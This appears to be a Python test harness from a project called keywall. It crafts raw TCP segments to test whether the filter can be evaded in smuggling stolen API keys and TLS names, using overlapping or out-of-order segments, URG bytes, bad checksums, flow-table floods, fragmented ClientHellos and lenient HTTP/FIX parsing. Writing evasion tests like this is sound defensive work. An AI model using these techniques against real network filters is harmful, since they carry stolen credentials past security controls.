"""Hand-crafted TCP attacks for keywall's evasion tests (run in the client namespace, as root).

Usage: evasion_attacks.py SRC DST PORT SPORT SCENARIO [ARG...]

The attacker owns the whole connection: segments are built here (TCP header and checksum,
sent through an IPv4 raw socket, the kernel adding the IP header) and the server's answers
are read from a second raw socket. The client kernel knows nothing of these connections and
would answer the server's SYN-ACK with a RST: the test drops outgoing RSTs from the
attacker's source ports with nftables (packets sent with SO_MARK 0x4b57 are let through, so
a scenario can still reset a connection on purpose).

Prints one JSON object: {"scenario", "synack": whether every handshake got its SYN-ACK,
"acked": the highest stream offset the server acknowledged, "server_bytes", "notes": [...]}.
Scenarios take KEY (the key value to smuggle, e.g. `stolens1-Zq81xT`) and, for TLS, LABEL
(the SNI label, e.g. `k-stolens1`); see SCENARIOS at the end.
"""

import json
import os
import random
import socket
import struct
import sys
import threading
import time

MARK = 0x4B57
F_FIN, F_SYN, F_RST, F_PSH, F_ACK, F_URG = 0x01, 0x02, 0x04, 0x08, 0x10, 0x20
SNI_SUFFIX = ".api.test"


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


class Conn:
    """One attacker TCP connection (IPv4) on a fixed 4-tuple."""

    def __init__(self, src, dst, dport, sport):
        self.src, self.dst, self.dport, self.sport = src, dst, dport, sport
        self.tx = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
        self.rx = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
        self.rx.settimeout(0.05)
        self.isn = 0
        self.server_isn = None
        self.rcv_nxt = None
        self.max_ack = None
        self.server_bytes = 0
        self.rst_seen = False
        self.synack_ok = True
        self.notes = []
        self.lock = threading.Lock()
        self.stop = False
        self.thread = threading.Thread(target=self.receive, daemon=True)
        self.thread.start()

    # -- receiving -----------------------------------------------------------------------------

    def receive(self):
        while not self.stop:
            try:
                pkt = self.rx.recv(65535)
            except socket.timeout:
                continue
            except OSError:
                return
            ihl = (pkt[0] & 0x0F) * 4
            if socket.inet_ntoa(pkt[12:16]) != self.dst:
                continue
            tcp = pkt[ihl:]
            sport, dport, seq, ack, off, flags = struct.unpack("!HHIIBB", tcp[:14])
            if sport != self.dport or dport != self.sport:
                continue
            payload = tcp[(off >> 4) * 4:]
            with self.lock:
                if flags & F_RST:
                    self.rst_seen = True
                    continue
                if flags & F_SYN and flags & F_ACK:
                    self.server_isn = seq
                    self.rcv_nxt = (seq + 1) & 0xFFFFFFFF
                    self.max_ack = ack
                    continue
                if flags & F_ACK and self.max_ack is not None:
                    if ((ack - self.max_ack) & 0xFFFFFFFF) < 0x80000000:
                        self.max_ack = ack
                if payload and self.rcv_nxt is not None and seq == self.rcv_nxt:
                    self.rcv_nxt = (seq + len(payload)) & 0xFFFFFFFF
                    self.server_bytes += len(payload)

    # -- sending -------------------------------------------------------------------------------

    def raw(self, seq, flags, data=b"", urg=0, bad_csum=False, ack=None, mark=False):
        if ack is None:
            ack = self.rcv_nxt or 0
        if not flags & F_SYN:
            flags |= F_ACK
        hdr = struct.pack("!HHIIBBHHH", self.sport, self.dport, seq & 0xFFFFFFFF,
                          ack & 0xFFFFFFFF if flags & F_ACK else 0, 5 << 4, flags, 65535, 0,
                          urg)
        pseudo = (socket.inet_aton(self.src) + socket.inet_aton(self.dst)
                  + struct.pack("!xBH", socket.IPPROTO_TCP, len(hdr) + len(data)))
        csum = checksum(pseudo + hdr + data)
        if bad_csum:
            csum ^= 0x5A5A
        seg = hdr[:16] + struct.pack("!H", csum) + hdr[18:] + data
        if mark:
            self.tx.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, MARK)
        self.tx.sendto(seg, (self.dst, 0))
        if mark:
            self.tx.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, 0)

    def connect(self, isn=None, data=b"", timeout=2.0):
        """SYN (with `data` on it if given), the SYN-ACK, the ACK."""
        self.isn = random.getrandbits(32) if isn is None else isn & 0xFFFFFFFF
        with self.lock:
            self.server_isn = None
            self.max_ack = None
        self.raw(self.isn, F_SYN, data)
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            with self.lock:
                if self.server_isn is not None:
                    break
            time.sleep(0.005)
        else:
            self.synack_ok = False
            self.notes.append("no SYN-ACK")
            return False
        self.raw(self.isn + 1 + len(data), F_ACK)
        return True

    def send(self, off, data, flags=F_PSH, **kw):
        """A segment whose first byte is at stream offset `off` (0 = the first data byte)."""
        self.raw(self.isn + 1 + off, flags, data, **kw)

    def stream(self, data, start=0, cuts=(), gap=0.03, **kw):
        """`data` in order from offset `start`, cut into segments at the offsets in `cuts`."""
        bounds = [0] + [c for c in cuts if 0 < c < len(data)] + [len(data)]
        for a, b in zip(bounds, bounds[1:]):
            self.send(start + a, data[a:b], **kw)
            time.sleep(gap)
        return start + len(data)

    def syn_again(self, seq):
        """A bare SYN on this (established) 4-tuple with sequence number `seq`."""
        self.raw(seq, F_SYN)

    def reset(self, off):
        self.raw(self.isn + 1 + off, F_RST, mark=True)

    def acked(self):
        with self.lock:
            if self.max_ack is None:
                return -1
            return ((self.max_ack - self.isn - 1) & 0xFFFFFFFF)

    def wait_acked(self, upto, timeout=1.0):
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            a = self.acked()
            if 0 <= a < 0x80000000 and a >= upto:
                return True
            time.sleep(0.01)
        return False

    def wait_server_bytes(self, n, timeout=1.0):
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            with self.lock:
                if self.server_bytes >= n:
                    return True
            time.sleep(0.01)
        return False

    def close(self):
        self.stop = True
        self.thread.join()
        self.tx.close()
        self.rx.close()

    def result(self):
        a = self.acked()
        return {"synack": self.synack_ok, "acked": a if a < 0x80000000 else -1,
                "server_bytes": self.server_bytes, "rst": self.rst_seen, "notes": self.notes}


# ---------------------------------------------------------------------------------------------
# payload builders


def http_request(key_line, extra=b""):
    return (b"GET /api/v3/account HTTP/1.1\r\nHost: api.test\r\n" + extra + key_line
            + b"\r\nUser-Agent: evasion\r\n\r\n")


def ext(kind, body):
    return struct.pack("!HH", kind, len(body)) + body


def u16_list(values):
    body = b"".join(struct.pack("!H", v) for v in values)
    return struct.pack("!H", len(body)) + body


def sni_ext(name):
    name = name.encode()
    return ext(0x0000, struct.pack("!HBH", len(name) + 3, 0, len(name)) + name)


def client_hello(name, share=True, extra_exts=0, pq=False, sni_first=False):
    """A TLS 1.3 (and 1.2) ClientHello handshake message (type, length, body).

    share=False sends an empty key_share: the server answers with a HelloRetryRequest.
    extra_exts adds that many empty extensions of unassigned types before server_name.
    pq adds a 1,216-byte share under a GREASE group, the size of X25519MLKEM768's."""
    shares = b""
    if pq:
        shares += struct.pack("!HH", 0x2A2A, 1216) + os.urandom(1216)
    if share:
        shares += struct.pack("!HH", 0x001D, 32) + os.urandom(32)
    exts = [
        ext(0x002B, b"\x04\x03\x04\x03\x03"),  # supported_versions
        ext(0x000A, u16_list([0x001D, 0x0017, 0x0018])),  # supported_groups
        ext(0x000D, u16_list([0x0403, 0x0804, 0x0401, 0x0503, 0x0805, 0x0501, 0x0806, 0x0601])),
        ext(0x002D, b"\x01\x01"),  # psk_key_exchange_modes
        ext(0x0033, struct.pack("!H", len(shares)) + shares),  # key_share
    ]
    exts += [ext(0x1A00 + i, b"") for i in range(extra_exts)]
    if sni_first:
        exts.insert(0, sni_ext(name))
    else:
        exts.append(sni_ext(name))
    exts.append(ext(0x000B, b"\x01\x00"))
    exts = b"".join(exts)
    body = (b"\x03\x03" + os.urandom(32) + b"\x20" + os.urandom(32)
            + u16_list([0x1301, 0x1302, 0x1303, 0xC02B, 0xC02F]) + b"\x01\x00"
            + struct.pack("!H", len(exts)) + exts)
    return b"\x01" + len(body).to_bytes(3, "big") + body


def record(ctype, body, version=b"\x03\x01"):
    return bytes([ctype]) + version + struct.pack("!H", len(body)) + body


def sni_name(label):
    return label + SNI_SUFFIX


def fix_msg(fields, begin="FIX.4.4"):
    """A FIX message from (tag, value) pairs, tags as given (strings, so `0553` stays)."""
    body = b"".join(b"%s=%s\x01" % (t.encode(), v.encode()) for t, v in fields)
    head = b"8=%s\x019=%d\x01" % (begin.encode(), len(body))
    msg = head + body
    return msg + b"10=%03d\x01" % (sum(msg) % 256)


def fix_logon(key, seq=1, key_tag="553"):
    return fix_msg([("35", "A"), ("49", "KWCLIENT"), ("56", "KEYWALL-EDGE"), ("34", str(seq)),
                    ("52", "20260101-00:00:00.000"), ("98", "0"), ("108", "30"),
                    (key_tag, key), ("554", "not-a-real-secret")])


def fix_test_request(seq, ident):
    return fix_msg([("35", "1"), ("49", "KWCLIENT"), ("56", "KEYWALL-EDGE"), ("34", str(seq)),
                    ("52", "20260101-00:00:00.000"), ("112", ident)])


# ---------------------------------------------------------------------------------------------
# scenarios: (conn, args) -> None


def sc_http_control(c, key):
    """A plain request with `key`, in order: what the machinery delivers when nothing hides."""
    c.connect()
    n = c.stream(http_request(b"X-MBX-APIKEY: " + key.encode()))
    c.wait_acked(n)


def sc_http_lenient(c, how, key):
    """A request whose key line only a lenient parser reads as the key header."""
    k = key.encode()
    lines = {
        "space-colon": b"X-MBX-APIKEY : " + k,
        "obs-fold": b"X-MBX-APIKEY:\r\n " + k,
        "bare-cr": b"X-Trace: 1\r" + b"X-MBX-APIKEY: " + k,
        "underscore": b"X_MBX_APIKEY: " + k,
    }
    c.connect()
    n = c.stream(http_request(lines[how]))
    c.wait_acked(n)


def h2_frame(ftype, flags, stream, payload):
    return len(payload).to_bytes(3, "big") + bytes([ftype, flags]) + struct.pack("!I", stream) + payload


def sc_h2c(c, key):
    """HTTP/2 with prior knowledge: the preface, SETTINGS, a HEADERS frame with the key as an
    HPACK literal (never at a line start)."""
    k = key.encode()
    block = (b"\x82\x86\x84" + b"\x01" + bytes([len(b"api.test")]) + b"api.test"
             + b"\x00" + bytes([len(b"x-mbx-apikey")]) + b"x-mbx-apikey" + bytes([len(k)]) + k)
    data = (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(0x4, 0, 0, b"")
            + h2_frame(0x1, 0x5, 1, block))
    c.connect()
    n = c.stream(data)
    c.wait_acked(n)


def sc_http_overlap(c, key):
    """Overlap, first copy wins: the server keeps the LF that ends segment 1, the filter sees
    segment 2 start with `Z` in its place, so its key line does not begin a line there."""
    first = b"GET /api/v3/account HTTP/1.1\r\nHost: api.test\r\n"
    second = b"ZX-MBX-APIKEY: " + key.encode() + b"\r\nUser-Agent: evasion\r\n\r\n"
    c.connect()
    c.send(0, first)
    c.wait_acked(len(first))
    c.send(len(first) - 1, second)
    c.wait_acked(len(first) - 1 + len(second))


def sc_http_urg(c, key):
    """URG: the server drops the urgent byte (`!`) from the stream, the filter reads it."""
    head = b"GET /api/v3/account HTTP/1.1\r\nHost: api.test\r\nX-MBX-APIKEY"
    data = head + b"!: " + key.encode() + b"\r\nUser-Agent: evasion\r\n\r\n"
    c.connect()
    # BSD semantics (Linux's default): the urgent byte is at seq + urg_ptr - 1.
    c.send(0, data, flags=F_PSH | F_URG, urg=len(head) + 1)
    c.wait_acked(len(data))


def sc_http_syn_data(c, key):
    """The request on the SYN itself (TCP Fast Open, no cookie required by the server)."""
    data = http_request(b"X-MBX-APIKEY: " + key.encode())
    c.connect(data=data)
    c.wait_acked(len(data))


def sc_http_flood(c, key, nflows):
    """Flow-table pressure on an HTTP listener: a request with `key` on this connection, then
    keyless requests from `nflows` other tuples, then another request on this connection."""
    c.connect()
    n = c.stream(http_request(b"X-MBX-APIKEY: " + key.encode()))
    c.wait_acked(n)
    flood(c, int(nflows))
    m = c.stream(http_request(b"X-MBX-APIKEY: " + key.encode()), start=n)
    c.wait_acked(m)


def flood(c, nflows):
    """New connections from `nflows` other source ports: a SYN, then a keyless HTTP request
    at its ISN + 1 (the filter judges a stream only from a recorded SYN)."""
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    data = b"GET / HTTP/1.1\r\nHost: flood\r\n\r\n"

    def send(sport, seq, flags, payload):
        hdr = struct.pack("!HHIIBBHHH", sport, c.dport, seq, random.getrandbits(32)
                          if flags & F_ACK else 0, 5 << 4, flags, 65535, 0, 0)
        pseudo = (socket.inet_aton(c.src) + socket.inet_aton(c.dst)
                  + struct.pack("!xBH", socket.IPPROTO_TCP, len(hdr) + len(payload)))
        cs = checksum(pseudo + hdr + payload)
        s.sendto(hdr[:16] + struct.pack("!H", cs) + hdr[18:] + payload, (c.dst, 0))

    for i in range(nflows):
        sport = 30000 + (i % 30000)
        isn = random.getrandbits(32)
        send(sport, isn, F_SYN, b"")
        send(sport, (isn + 1) & 0xffffffff, F_PSH | F_ACK, data)
        if i % 200 == 199:
            time.sleep(0.002)
    s.close()
    c.notes.append("flooded %d tuples" % nflows)


# -- TLS ---------------------------------------------------------------------------------------


def sc_tls_control(c, label):
    c.connect()
    n = c.stream(record(0x16, client_hello(sni_name(label))))
    c.wait_acked(n)


def sc_tls_name(c, name):
    """A whole ClientHello in one record and one segment, server_name exactly `name`."""
    c.connect()
    n = c.stream(record(0x16, client_hello(name)))
    c.wait_acked(n)


def sc_tls_fragmented(c, label):
    """One ClientHello fragmented over two handshake records; the name is in the second."""
    hs = client_hello(sni_name(label))
    cut = 60
    data = record(0x16, hs[:cut]) + record(0x16, hs[cut:])
    c.connect()
    n = c.stream(data)
    c.wait_acked(n)


def sc_tls_record_before(c, kind, label):
    """A record of another kind before the ClientHello's record, in the same segment."""
    before = {
        "ccs": record(0x14, b"\x01", b"\x03\x03"),
        "empty-appdata": record(0x17, b"", b"\x03\x03"),
        "empty-handshake": record(0x16, b""),
    }[kind]
    c.connect()
    n = c.stream(before + record(0x16, client_hello(sni_name(label))))
    c.wait_acked(n)


def sc_tls_short_first(c, label):
    """The first segment holds 8 bytes: the record header and part of the handshake header."""
    c.connect()
    n = c.stream(record(0x16, client_hello(sni_name(label))), cuts=[8])
    c.wait_acked(n)


def sc_tls_many_exts(c, label):
    """60 empty extensions of unassigned types before server_name."""
    c.connect()
    n = c.stream(record(0x16, client_hello(sni_name(label), extra_exts=60)))
    c.wait_acked(n)


def sc_tls_second_hello(c, first_label, second_label):
    """TLS 1.3 HelloRetryRequest: a first ClientHello (no key share) naming `first_label`,
    then, once the server answered, a second one naming `second_label`."""
    c.connect()
    n = c.stream(record(0x16, client_hello(sni_name(first_label), share=False)))
    c.wait_acked(n)
    got = c.wait_server_bytes(1, 1.0)
    c.notes.append("server answered the first hello: %s" % got)
    m = c.stream(record(0x16, client_hello(sni_name(second_label), share=True),
                        b"\x03\x03"), start=n)
    c.wait_acked(m)


def sc_tls_bad_csum(c, first_label, second_label):
    """A ClientHello naming `first_label` with a bad TCP checksum (the server discards it,
    after the filter saw it), then one naming `second_label` at the same sequence number."""
    first = record(0x16, client_hello(sni_name(first_label)))
    second = record(0x16, client_hello(sni_name(second_label)))
    assert len(first) == len(second)
    c.connect()
    c.send(0, first, bad_csum=True)
    time.sleep(0.1)
    c.notes.append("server acked the bad-checksum segment: %s" % c.wait_acked(1, 0.2))
    c.send(0, second)
    c.wait_acked(len(second))


def sc_tls_before_start(c, outer_label, inner_label):
    """The first data segment begins before the stream start (ISN + 1): the server trims the
    bytes before its window and reads on from there. The segment is one ClientHello naming
    `outer_label` whose cipher-suite list holds, exactly where the server's stream begins, a
    whole ClientHello record naming `inner_label`."""
    inner = record(0x16, client_hello(sni_name(inner_label)))
    if len(inner) % 2:
        inner += b"\x00"
    exts = sni_ext(sni_name(outer_label)) + ext(0x002B, b"\x04\x03\x04\x03\x03")
    body = (b"\x03\x03" + os.urandom(32) + b"\x20" + os.urandom(32)
            + struct.pack("!H", len(inner) + 2) + inner + b"\x13\x01" + b"\x01\x00"
            + struct.pack("!H", len(exts)) + exts)
    outer = record(0x16, b"\x01" + len(body).to_bytes(3, "big") + body)
    head = outer.index(inner)
    c.connect()
    c.send(-head, outer)
    c.notes.append("inner record at byte %d" % head)
    c.wait_acked(len(outer) - head)


def sc_tls_syn_midhello(c, label):
    """A ClientHello cut in two (the name in the second part); between the parts, a SYN on
    the established tuple (the kernel answers it with a challenge ACK and keeps the
    connection)."""
    data = record(0x16, client_hello(sni_name(label)))
    cut = 100
    c.connect()
    c.send(0, data[:cut])
    c.wait_acked(cut)
    c.syn_again(c.isn + 1 + cut - 1)
    time.sleep(0.1)
    c.send(cut, data[cut:])
    c.wait_acked(len(data))


def sc_tls_ooo(c, label):
    """The ClientHello's second part (with the name) before its first part."""
    data = record(0x16, client_hello(sni_name(label)))
    cut = 100
    c.connect()
    c.send(cut, data[cut:])
    time.sleep(0.1)
    c.send(0, data[:cut])
    c.wait_acked(len(data))


def sc_tls_evict(c, label, nflows, flood_port):
    """A ClientHello cut in two; between the parts, `nflows` flows from other tuples fill the
    flow table."""
    data = record(0x16, client_hello(sni_name(label)))
    cut = 100
    c.connect()
    c.send(0, data[:cut])
    c.wait_acked(cut)
    dport = c.dport
    c.dport = int(flood_port)
    try:
        flood(c, int(nflows))
    finally:
        c.dport = dport
    time.sleep(0.2)
    c.send(cut, data[cut:])
    c.wait_acked(len(data))


# -- FIX ---------------------------------------------------------------------------------------


def sc_fix_control(c, key):
    c.connect()
    n = c.stream(fix_logon(key))
    c.wait_acked(n)


def sc_fix_second_logon(c, first, second):
    c.connect()
    n = c.stream(fix_logon(first, 1))
    c.wait_acked(n)
    c.wait_server_bytes(1, 1.0)
    m = c.stream(fix_logon(second, 2), start=n)
    c.wait_acked(m)


def sc_fix_leading_zero(c, key):
    c.connect()
    n = c.stream(fix_logon(key, key_tag="0553"))
    c.wait_acked(n)


def sc_fix_syn(c, first, second):
    """Logon with `first`; a SYN on the tuple with ISN = the stream position - 1; a second
    Logon with `second` right at that ISN + 1 (in order for the server too)."""
    c.connect()
    n = c.stream(fix_logon(first, 1))
    c.wait_acked(n)
    c.wait_server_bytes(1, 1.0)
    c.syn_again(c.isn + 1 + n - 1)
    time.sleep(0.1)
    m = c.stream(fix_logon(second, 2), start=n)
    c.wait_acked(m)


# -- PROXY -------------------------------------------------------------------------------------


def proxy_v2(client, dport, sport=40000):
    addrs = socket.inet_aton(client) + socket.inet_aton("10.200.255.254")
    body = addrs + struct.pack("!HH", sport, dport)
    return (b"\r\n\r\n\x00\r\nQUIT\n" + b"\x21\x11" + struct.pack("!H", len(body)) + body)


def sc_proxy_reuse(c, first_client, first_key, second_client, second_key):
    """As a trusted proxy: a connection for `first_client` with `first_key`, reset; then a new
    connection on the same 4-tuple for `second_client` with `second_key`."""
    c.connect()
    n = c.stream(proxy_v2(first_client, c.dport) + http_request(b"X-MBX-APIKEY: " + first_key.encode()))
    c.wait_acked(n)
    c.wait_server_bytes(1, 1.0)
    c.reset(n)
    time.sleep(0.2)
    c.connect()
    m = c.stream(proxy_v2(second_client, c.dport)
                 + http_request(b"X-MBX-APIKEY: " + second_key.encode()))
    c.wait_acked(m)


SCENARIOS = {
    "http-control": sc_http_control,
    "http-lenient": sc_http_lenient,
    "h2c": sc_h2c,
    "http-overlap": sc_http_overlap,
    "http-urg": sc_http_urg,
    "http-syn-data": sc_http_syn_data,
    "http-flood": sc_http_flood,
    "tls-control": sc_tls_control,
    "tls-name": sc_tls_name,
    "tls-fragmented": sc_tls_fragmented,
    "tls-record-before": sc_tls_record_before,
    "tls-short-first": sc_tls_short_first,
    "tls-many-exts": sc_tls_many_exts,
    "tls-second-hello": sc_tls_second_hello,
    "tls-bad-csum": sc_tls_bad_csum,
    "tls-syn-midhello": sc_tls_syn_midhello,
    "tls-before-start": sc_tls_before_start,
    "tls-ooo": sc_tls_ooo,
    "tls-evict": sc_tls_evict,
    "fix-control": sc_fix_control,
    "fix-second-logon": sc_fix_second_logon,
    "fix-leading-zero": sc_fix_leading_zero,
    "fix-syn": sc_fix_syn,
    "proxy-reuse": sc_proxy_reuse,
}


def main():
    if len(sys.argv) < 6 or sys.argv[5] not in SCENARIOS:
        sys.exit(__doc__ + "\nscenarios: " + " ".join(sorted(SCENARIOS)))
    src, dst, port, sport, name = sys.argv[1:6]
    c = Conn(src, dst, int(port), int(sport))
    try:
        SCENARIOS[name](c, *sys.argv[6:])
        time.sleep(0.3)  # let the server read and log what it got
    finally:
        c.close()
    out = c.result()
    out["scenario"] = name
    print(json.dumps(out), flush=True)


if __name__ == "__main__":
    main()
